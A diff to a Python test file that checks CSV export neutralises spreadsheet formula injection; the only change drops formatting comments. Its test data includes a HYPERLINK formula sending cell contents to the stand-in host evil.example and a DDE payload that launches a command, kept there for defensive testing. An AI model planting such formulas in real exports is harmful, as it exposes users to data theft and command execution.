@@ -13,7 +13,7 @@ import pytest
 from experiments.privacy.export import Column, _write_table, spreadsheet_cell
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"clic")', "+cmd|' /C calc'!A0",
-            "-2+3", "@SUM(A1:A9)", "\tx=1", "\r=1"]  # fmt: skip
+            "-2+3", "@SUM(A1:A9)", "\tx=1", "\r=1"]
 
 
 @pytest.mark.parametrize("text", FORMULAS)
@@ -23,7 +23,7 @@ def test_a_formula_cell_is_written_as_text(text: str) -> None:
 
 def test_the_csv_neutralises_text_cells_and_parquet_keeps_them(tmp_path: Path) -> None:
     columns = [Column("object_id", "string", "the object", ""),
-               Column("score", "float", "a score", "points")]  # fmt: skip
+               Column("score", "float", "a score", "points")]
     rows = [{"object_id": text, "score": -1.5} for text in FORMULAS]
     rows.append({"object_id": "lectio-1", "score": 2.0})
     _write_table(tmp_path, "events", columns, rows, ("parquet", "csv"))
